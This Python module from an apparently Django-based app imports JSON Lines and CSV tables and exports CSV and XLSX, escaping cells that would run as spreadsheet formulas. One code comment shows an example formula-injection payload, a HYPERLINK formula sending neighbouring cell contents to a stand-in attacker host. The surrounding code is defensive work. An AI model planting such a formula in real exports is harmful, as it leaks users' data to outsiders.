"""Tables in and out of files, for every importer and exporter.

Reading import files (JSON Lines or CSV) row by row: imports are all or nothing, importers
collect every problem with its line number and raise `ImportRejected`. Writing exports as CSV
(streamed) or XLSX. Every exported spreadsheet cell passes `spreadsheet_cell`, and every cell
read from an imported CSV passes `from_spreadsheet_cell`, its inverse."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from typing import IO, Any

from django.conf import settings
from django.utils.translation import gettext
from django.utils.translation import gettext as _

from ponte.core.exceptions import ApplicationError
from ponte.core.text import has_nul

FORMATS = ("jsonl", "csv")


class ImportRejected(Exception):
    """The file was not imported; `problems` lists every problem as (line, message)."""

    def __init__(self, problems: list[tuple[int, str]]) -> None:
        super().__init__(f"{len(problems)} problem(s); nothing was imported.")
        self.problems = problems


@dataclass
class ImportReport:
    """What an accepted import wrote."""

    created: int = 0
    updated: int = 0
    local_governments_created: list[str] = field(default_factory=list)


def read_rows(
    stream: IO[str], fmt: str, *, fields: Sequence[str]
) -> Iterator[tuple[int, dict[str, Any] | str]]:
    """Yield (line number, row dict) or (line number, error message) for unreadable lines.
    CSV columns outside `fields` are reported once and dropped. A file that cannot be read
    on (a CSV field beyond the reader's limit) ends with that message."""
    if fmt == "jsonl":
        for number, line in enumerate(stream, start=1):
            if not line.strip():
                continue
            try:
                row = json.loads(line)
            except json.JSONDecodeError as exc:
                yield number, gettext("not valid JSON (%(reason)s)") % {"reason": exc.msg}
                continue
            except RecursionError:
                yield number, gettext("the JSON is nested too deeply to read")
                continue
            if not isinstance(row, dict):
                yield number, gettext("each line must be a JSON object")
            elif has_nul(row):
                yield number, _nul_message()
            else:
                yield number, row
    elif fmt == "csv":
        reader = csv.DictReader(stream)
        try:
            unknown = [name for name in reader.fieldnames or [] if name not in fields]
            if unknown:
                yield 1, gettext("unknown column(s): %(columns)s") % {"columns": ", ".join(unknown)}
            for row in reader:
                values = {
                    key: from_spreadsheet_cell(value) if isinstance(value, str) else value
                    for key, value in row.items()
                    if key in fields
                }
                yield reader.line_num, _nul_message() if has_nul(values) else values
        except csv.Error as exc:
            # The reader cannot go on after this (a field over csv.field_size_limit(), 128 KiB).
            yield (
                reader.line_num + 1,
                gettext("cannot read the CSV from here on (%(reason)s)") % {"reason": exc},
            )
    else:
        raise ValueError(f"Unknown format {fmt!r}; use jsonl or csv.")


def _nul_message() -> str:
    return gettext("contains a NUL character (U+0000), which no field accepts")


def as_list(value: Any) -> list[str]:
    """A list from a JSON list or a CSV cell separated by semicolons or commas."""
    if value in (None, ""):
        return []
    if isinstance(value, list):
        return [str(v).strip() for v in value if str(v).strip()]
    return [part.strip() for part in str(value).replace(",", ";").split(";") if part.strip()]


# Spreadsheet cells ---------------------------------------------------------------------------

# Text beginning with one of these is a formula (or a DDE command) to Excel, LibreOffice and
# Google Sheets: `=HYPERLINK("https://evil.example/?x="&A1,"click")` in a title would send the
# neighbouring cells away. OWASP's remedy: a leading apostrophe, so the cell is shown as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _formula_like(text: str) -> bool:
    # A plain signed number (-12.5) is what it looks like, not a formula.
    return text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


def spreadsheet_cell(value: Any) -> Any:
    """A value as an exported CSV or XLSX cell: text a spreadsheet would run as a formula gets
    a leading apostrophe; numbers (and text that is just a number) stay as they are.

    Text that already begins with apostrophes before such a start gets one more, so
    `from_spreadsheet_cell` gives back exactly what was exported."""
    if isinstance(value, str) and _formula_like(value.lstrip("'")):
        return "'" + value
    return value


def from_spreadsheet_cell(text: str) -> str:
    """The inverse of `spreadsheet_cell`, for cells of an imported CSV."""
    if text.startswith("'") and _formula_like(text[1:].lstrip("'")):
        return text[1:]
    return text


# Writing tables ------------------------------------------------------------------------------

_CHUNK_BYTES = 64 * 1024


class _Line:
    """A file-like target for csv.writer that hands back each line instead of keeping it."""

    def write(self, line: str) -> str:
        return line


def chunked(lines: Iterable[str]) -> Iterator[bytes]:
    """Lines of text as UTF-8 chunks of about 64 KB, for a streamed response or file."""
    batch: list[str] = []
    size = 0
    for line in lines:
        batch.append(line)
        size += len(line)
        if size >= _CHUNK_BYTES:
            yield "".join(batch).encode()
            batch, size = [], 0
    if batch:
        yield "".join(batch).encode()


def csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """A CSV table in chunks: the rows are read as they are written, never held all at once."""
    writer = csv.writer(_Line())
    lines = (writer.writerow([spreadsheet_cell(cell) for cell in row]) for row in rows)
    return chunked(itertools.chain([writer.writerow(header)], lines))


def require_xlsx_fits(count: int) -> None:
    """Refuse, before any work, an XLSX export of more rows than PONTE_EXPORT_XLSX_MAX_ROWS:
    unlike CSV and JSON Lines it is built whole in memory."""
    limit = settings.PONTE_EXPORT_XLSX_MAX_ROWS
    if count > limit:
        raise ApplicationError(
            _(
                "An XLSX export holds at most %(limit)s rows and this one would have "
                "%(count)s. Download CSV or JSON Lines instead: they have no limit."
            )
            % {"limit": limit, "count": count},
            errors={"format": [_("Too many rows for XLSX.")]},
        )


def xlsx_bytes(sheet_name: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """An XLSX workbook of one sheet. An XLSX file is a zip written at the end, so it cannot be
    streamed: the web edges cap its rows first (`require_xlsx_fits`)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_name)
    sheet.append(list(header))
    for row in rows:
        sheet.append([spreadsheet_cell(cell) for cell in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
